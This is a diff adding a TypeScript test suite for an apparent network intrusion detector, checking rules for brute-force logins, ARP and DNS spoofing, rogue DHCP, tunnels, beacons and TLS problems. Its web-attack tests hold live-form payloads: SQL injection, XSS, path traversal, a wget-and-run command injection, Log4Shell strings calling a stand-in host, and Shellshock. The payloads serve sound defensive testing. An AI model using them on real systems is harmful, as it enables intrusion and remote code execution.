@@ -1,0 +1,356 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { beaconScore, randomFrom } from '@eyrie/detect';
+import { partsOf } from '../src/rules/channels/dns-names.ts';
+import { attackIn } from '../src/rules/web/web-attack.ts';
+import { arp, dns, findingsOf, flow, http, icmp, login, rulesOf, START, times } from './support.ts';
+
+describe('brute force', () => {
+  it('is ten failures in ten minutes, and critical when one gets in', () => {
+    assert.deepEqual(rulesOf(times(9, (i) => login(false, i))), []);
+    const [failed] = findingsOf(times(10, (i) => login(false, i)));
+    assert.equal(failed?.severity, 'high');
+    assert.match(failed.summary, /failed 10 times to log in to FTP of 10\.0\.0\.2:80 as ana/);
+    const [entered] = findingsOf([...times(10, (i) => login(false, i)), login(true, 11)]);
+    assert.equal(entered?.severity, 'critical');
+  });
+
+  it('leaves git and backup alone, whose sessions get in', () => {
+    assert.deepEqual(rulesOf(times(200, (i) => login(true, i, { protocol: 'SSH', isInferred: true }))), []);
+  });
+
+  it('across hosts is spraying', () => {
+    const events = times(12, (i) => login(false, i * 60, { server: `10.0.1.${i}`, protocol: 'SMB' }));
+    assert.deepEqual(rulesOf(events), ['password-spraying']);
+  });
+
+  it('of remote desktops shows in short sessions', () => {
+    const sessions = (seconds: number) =>
+      times(40, (i) =>
+        flow(i * 2, { stream: i, server: { address: '10.0.0.2', port: 3389 }, end: START + i * 2 + seconds }),
+      );
+    assert.deepEqual(rulesOf(sessions(1)), ['login-connections']);
+    assert.deepEqual(rulesOf(sessions(600)), []);
+  });
+
+  it('of mesh joins is five refusals', () => {
+    const join = (i: number) =>
+      ({ kind: 'join', time: START + i, frame: 0, address: '10.0.0.66', isSuccess: false }) as const;
+    assert.deepEqual(rulesOf(times(4, join)), []);
+    assert.deepEqual(rulesOf(times(5, join)), ['join-guessing']);
+  });
+});
+
+describe('ARP', () => {
+  const ROUTER = '02:00:00:00:00:01';
+  const VICTIM = '02:00:00:00:00:99';
+  const ATTACKER = '02:00:00:00:00:66';
+
+  it('poisoning is an answer pushed to one host, for an address that another MAC claims', () => {
+    const events = [
+      arp(true, 0, { senderMac: VICTIM, senderAddress: '10.0.0.99', targetAddress: '10.0.0.1' }),
+      arp(false, 0.1, { senderMac: ROUTER, senderAddress: '10.0.0.1', targetAddress: '10.0.0.99' }),
+      ...times(5, (i) =>
+        arp(false, 20 + i * 10, {
+          senderMac: ATTACKER,
+          senderAddress: '10.0.0.1',
+          targetAddress: '10.0.0.99',
+          frameDestination: VICTIM,
+        }),
+      ),
+    ];
+    const [finding] = findingsOf(events);
+    assert.equal(finding?.rule, 'arp-spoof');
+    assert.equal(finding.source, ATTACKER);
+    assert.match(finding.summary, /02:00:00:00:00:66 claims 10\.0\.0\.1/);
+  });
+
+  it('is quiet about questions answered, neighbours checked, hosts with two addresses, and failover', () => {
+    const events = times(20, (i) => [
+      arp(true, i, { senderAddress: '10.0.0.99', senderMac: VICTIM, targetAddress: '10.0.0.1' }),
+      arp(false, i, {
+        senderAddress: '10.0.0.1',
+        senderMac: ROUTER,
+        targetAddress: '10.0.0.99',
+        frameDestination: VICTIM,
+      }),
+      arp(true, i, {
+        senderAddress: '10.0.0.1',
+        senderMac: ROUTER,
+        targetAddress: '10.0.0.99',
+        frameDestination: VICTIM,
+      }),
+      arp(true, i, {
+        senderAddress: '10.0.0.2',
+        senderMac: ROUTER,
+        targetAddress: '10.0.0.99',
+        frameDestination: VICTIM,
+      }),
+      arp(false, i, {
+        senderAddress: '10.0.0.254',
+        senderMac: i < 10 ? '00:00:5e:00:01:01' : ROUTER,
+        targetAddress: '10.0.0.254',
+        frameDestination: 'ff:ff:ff:ff:ff:ff',
+      }),
+    ]);
+    assert.deepEqual(rulesOf(events), []);
+  });
+
+  it('conflict is two MACs that take turns', () => {
+    const events = times(8, (i) =>
+      arp(true, i, { senderMac: i % 2 === 0 ? ROUTER : VICTIM, senderAddress: '10.0.0.7' }),
+    );
+    assert.deepEqual(rulesOf(events, ['low']), ['address-conflict']);
+  });
+
+  it('tells of a new host only after an hour', () => {
+    const event = (after: number, mac: string) =>
+      arp(true, after, { senderMac: mac, senderAddress: '10.0.0.5' });
+    assert.deepEqual(rulesOf([event(0, ROUTER), event(60, VICTIM)], ['info']), []);
+    assert.deepEqual(rulesOf([event(0, ROUTER), event(3700, VICTIM)], ['info']), ['new-host']);
+  });
+});
+
+describe('rogue servers', () => {
+  const offer = (server: string, routers: string) =>
+    ({
+      kind: 'dhcp',
+      time: START,
+      frame: 1,
+      type: 2,
+      transaction: 5,
+      clientMac: '02:00:00:00:00:05',
+      frameSource: '02:00:00:00:00:01',
+      source: server,
+      serverId: server,
+      routers,
+      dnsServers: '10.0.0.53',
+    }) as const;
+
+  it('DHCP: two that disagree on the router; a failover pair agrees', () => {
+    assert.deepEqual(rulesOf([offer('10.0.0.1', '10.0.0.1'), offer('10.0.0.66', '10.0.0.66')]), [
+      'rogue-dhcp',
+    ]);
+    assert.deepEqual(rulesOf([offer('10.0.0.1', '10.0.0.1'), offer('10.0.0.2', '10.0.0.1')]), []);
+  });
+
+  const router = (source: string, preference: number, prefix: string, lifetimeS = 1800) =>
+    ({
+      kind: 'router',
+      time: START,
+      frame: 1,
+      source,
+      mac: 'm',
+      lifetimeS,
+      preference,
+      prefixes: [prefix],
+    }) as const;
+
+  it('IPv6 routers: one that pushes itself before the first, or very many', () => {
+    const first = router('fe80::1', 0, '2001:db8:1::/64');
+    assert.deepEqual(rulesOf([first, router('fe80::66', 1, '2001:db8:66::/64')]), ['rogue-router']);
+    assert.deepEqual(rulesOf([first, router('fe80::2', 0, '2001:db8:2::/64')]), []);
+    assert.deepEqual(rulesOf([first, router('fe80::2', 1, '2001:db8:2::/64', 0)]), []);
+    assert.deepEqual(rulesOf(times(12, (i) => router(`fe80::${i}`, 0, `2001:db8:${i}::/64`))), [
+      'rogue-router',
+    ]);
+  });
+
+  it('DNS: two answers to one question', () => {
+    const answer = (address: string) => dns(true, 0.1, { addresses: [address] });
+    assert.deepEqual(rulesOf([dns(false, 0, {}), answer('192.0.2.1'), answer('203.0.113.9')]), ['dns-spoof']);
+    assert.deepEqual(rulesOf([dns(false, 0, {}), answer('192.0.2.1'), answer('192.0.2.1')]), []);
+    // A server that rotates its addresses, asked twice.
+    assert.deepEqual(
+      rulesOf([dns(false, 0, {}), dns(false, 1, {}), answer('192.0.2.1'), answer('203.0.113.9')]),
+      [],
+    );
+  });
+});
+
+describe('tunnels', () => {
+  const random = randomFrom(3);
+  const word = (length: number) =>
+    Array.from({ length }, () => 'abcdefghijklmnopqrstuvwxyz234567'[random.below(32)]).join('');
+  const names = (count: number, length: number, domain: string, answer: number) =>
+    times(count, (i) => {
+      const name = `${word(length)}.${domain}`;
+      return [dns(false, i, { name, id: i }), dns(true, i, { name, id: i, bytes: 60 + answer })];
+    });
+
+  it('DNS: long names below one domain, with data in the answers or without', () => {
+    assert.deepEqual(rulesOf(names(60, 50, 't.example.com', 120)), ['dns-tunnel']);
+    assert.deepEqual(rulesOf(names(60, 50, 't.example.co.uk', 10)), ['dns-exfiltration']);
+    assert.deepEqual(rulesOf(names(20, 50, 't.example.com', 120)), []);
+    assert.deepEqual(rulesOf(names(60, 6, 'example.com', 120)), []);
+  });
+
+  it('DNS: quiet about content networks, block lists and reverse look-ups', () => {
+    for (const domain of ['d1.cloudfront.net', 'zen.spamhaus.org', 'in-addr.arpa', 'hash.avts.mcafee.com'])
+      assert.deepEqual(rulesOf(names(100, 50, domain, 120)), []);
+  });
+
+  it('DNS: names are split where they were registered', () => {
+    assert.deepEqual(partsOf('a.b.example.co.uk'), { base: 'example.co.uk', data: 'ab' });
+    assert.deepEqual(partsOf('a.example.com'), { base: 'example.com', data: 'a' });
+    assert.deepEqual(partsOf('dnscat.0f3a9bc1'), { base: 'dnscat', data: '0f3a9bc1' });
+    assert.equal(partsOf('4.3.2.1.in-addr.arpa'), null);
+    assert.equal(partsOf('localhost'), null);
+  });
+
+  it('ICMP: replies that hold other data than was sent', () => {
+    const pings = (changed: boolean) =>
+      times(10, (i) => [
+        icmp('echo', i, { sequence: i, hash: i }),
+        icmp('reply', i, {
+          sequence: i,
+          hash: changed ? i + 100 : i,
+          source: '10.0.0.2',
+          destination: '10.0.0.1',
+        }),
+      ]);
+    assert.deepEqual(rulesOf(pings(true)), ['icmp-tunnel']);
+    assert.deepEqual(rulesOf(pings(false)), []);
+  });
+});
+
+describe('beacons', () => {
+  it('score high when regular, low when not', () => {
+    const random = randomFrom(8);
+    const regular = Array.from({ length: 100 }, (_, i) => i * 60 + random.next());
+    const wild = Array.from({ length: 100 }, () => random.next() ** 4 * 6000).sort((a, b) => a - b);
+    const same = regular.map(() => 500);
+    assert.ok(beaconScore(regular, same)!.score > 0.9);
+    assert.ok(
+      beaconScore(
+        wild,
+        wild.map(() => 100 + random.below(100_000)),
+      )!.score < 0.6,
+    );
+    assert.equal(beaconScore([1, 2, 3], [1, 1, 1]), null);
+    assert.equal(beaconScore([1, 1, 1, 1, 1], [1, 1, 1, 1, 1]), null);
+  });
+
+  it('are told of outside the network only, and not for time servers', () => {
+    const visits = (server: { address: string; port: number }) =>
+      times(60, (i) => flow(i * 60, { stream: i, server, applications: [] }));
+    assert.deepEqual(rulesOf(visits({ address: '198.51.100.7', port: 443 }), ['low', 'medium']), ['beacon']);
+    assert.deepEqual(rulesOf(visits({ address: '10.0.0.7', port: 443 }), ['low', 'medium']), []);
+    assert.deepEqual(rulesOf(visits({ address: '198.51.100.7', port: 123 }), ['low', 'medium']), []);
+  });
+});
+
+describe('web attacks', () => {
+  const attack = (uri: string, headers: string[] = [], body = '') => attackIn({ uri, headers, body });
+
+  it('are known however they are encoded', () => {
+    const expected: readonly [string, string][] = [
+      ['/?id=1%27+and+1%3D1%23', 'SQL injection'],
+      ['/?id=1%20UNION/**/SELECT%20user,password%20FROM%20users', 'SQL injection'],
+      ['/?id=1;WAITFOR%20DELAY%20%270:0:5%27', 'SQL injection'],
+      ['/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'cross-site scripting (XSS)'],
+      ['/?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E', 'cross-site scripting (XSS)'],
+      ['/?file=../../../../etc/passwd', 'path traversal'],
+      ['/cgi-bin/.%2e/.%2e/.%2e/etc/hosts', 'path traversal'],
+      ['/ping?ip=127.0.0.1;cat%20/etc/motd', 'command injection (RCE)'],
+      ['/shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x', 'command injection (RCE)'],
+      ['/index.php?page=php://input', 'code injection (RCE)'],
+      [`/?x=$${'{jndi:ldap://192.0.2.1/a}'}`, 'Log4Shell'],
+    ];
+    for (const [uri, name] of expected) assert.equal(attack(uri), name, uri);
+    assert.equal(attack('/', ['User-Agent: () { :; }; /bin/bash -c id']), 'Shellshock');
+    assert.equal(attack('/', [`User-Agent: $${'{$'}{lower:j}ndi:ldap://192.0.2.1/a}`]), 'Log4Shell');
+    assert.equal(
+      attack('/', ["Content-Type: %{(#nike='multipart/form-data').(#_memberAccess=1)}"]),
+      'code injection (RCE)',
+    );
+    assert.equal(attack('/login', [], "user=admin'+or+'1'='1&pass=x"), 'SQL injection');
+  });
+
+  it('are not what people search for, write and link to', () => {
+    for (const uri of [
+      '/search?q=select+a+union+member+from+the+list',
+      '/search?q=rock+%26+roll+and+1970s',
+      "/search?q=it's+and+that's+it",
+      '/a/../b/style.css',
+      '/?q=cats+%26+dogs%3B+id+cards',
+      '/?redirect=https%3A%2F%2Fexample.com%2F%3Fa%3D1%26b%3D2',
+      '/?price=%24%7B100%7D',
+      '/?name=O%27Brien&next=/home',
+      '/?utm_content=a|b|c&cat=3',
+      '/?json=%7B%22a%22%3A%22b%22%2C%22c%22%3A1%7D',
+    ])
+      assert.equal(attack(uri), null, uri);
+    assert.equal(attack('/comment', [], 'text=%3Cscript%3E+in+a+lesson+on+HTML'), null);
+  });
+
+  it('are graver when the server answers them than when it refuses', () => {
+    const uri = '/?id=1%27+union+select+1';
+    const severity = (status: number) =>
+      findingsOf([http('request', 0, { uri }), http('response', 1, { status })])[0]?.severity;
+    assert.equal(severity(200), 'high');
+    assert.equal(severity(403), 'medium');
+  });
+
+  it('a scan is many pages that do not exist', () => {
+    const visit = (status: number) =>
+      times(60, (i) => [http('request', i, { uri: `/${i}` }), http('response', i, { status })]);
+    assert.deepEqual(rulesOf(visit(404)), ['web-scan']);
+    assert.deepEqual(rulesOf(visit(200)), []);
+  });
+});
+
+describe('what is told of quietly', () => {
+  const ends = { stream: 1, client: '10.0.0.1', clientPort: 9, server: '10.0.0.2', serverPort: 443 };
+  const tls = {
+    kind: 'tls',
+    time: START,
+    frame: 1,
+    ...ends,
+    serverName: '',
+    version: 0,
+    suite: 0,
+    notBefore: 0,
+    notAfter: 0,
+    overreach: 0,
+  } as const;
+
+  it('weak TLS, certificates out of date; Heartbleed is critical', () => {
+    const rules = (event: object) =>
+      findingsOf([{ ...tls, ...event } as never]).map(({ rule, severity }) => `${rule} ${severity}`);
+    assert.deepEqual(rules({ step: 'hello', version: 0x0301, suite: 0xc02f }), ['tls-weak low']);
+    assert.deepEqual(rules({ step: 'hello', version: 0x0303, suite: 0x0005 }), ['tls-weak low']);
+    assert.deepEqual(rules({ step: 'hello', version: 0x0304, suite: 0x1301 }), []);
+    assert.deepEqual(rules({ step: 'certificate', notBefore: START - 9e7, notAfter: START - 1e6 }), [
+      'tls-certificate low',
+    ]);
+    assert.deepEqual(rules({ step: 'certificate', notBefore: START - 9e7, notAfter: START + 1e6 }), []);
+    assert.deepEqual(rules({ step: 'heartbeat', overreach: 16_000 }), ['heartbleed critical']);
+  });
+
+  it('passwords in clear, never the password itself', () => {
+    const event = (user: string) =>
+      ({ kind: 'cleartext', time: START, frame: 1, ...ends, protocol: 'FTP', user }) as const;
+    const [finding] = findingsOf([event('ana')]);
+    assert.equal(finding?.severity, 'low');
+    assert.match(finding.summary, /as ana, password \*\*\*\*/);
+    assert.deepEqual(findingsOf([event('anonymous')]), []);
+  });
+
+  it('protocols where others belong', () => {
+    const rules = (port: number, application: string) =>
+      rulesOf([flow(0, { server: { address: '10.0.0.2', port }, applications: [application] })], ['low']);
+    assert.deepEqual(rules(443, 'ssh'), ['wrong-port']);
+    assert.deepEqual(rules(443, 'tls'), []);
+    assert.deepEqual(rules(8080, 'http'), []);
+    assert.deepEqual(rules(2022, 'ssh'), ['wrong-port']);
+  });
+
+  it('a Land attack, and lists of clients asked of time servers', () => {
+    const event = (what: 'same-ends' | 'ntp-monlist', frame: number) =>
+      ({ kind: 'suspect', what, time: START + frame, frame, ...ends }) as const;
+    assert.deepEqual(rulesOf([event('same-ends', 1)]), ['land']);
+    assert.deepEqual(rulesOf(times(2, (i) => event('ntp-monlist', i))), []);
+    assert.deepEqual(rulesOf(times(3, (i) => event('ntp-monlist', i))), ['ntp-monlist']);
+  });
+});
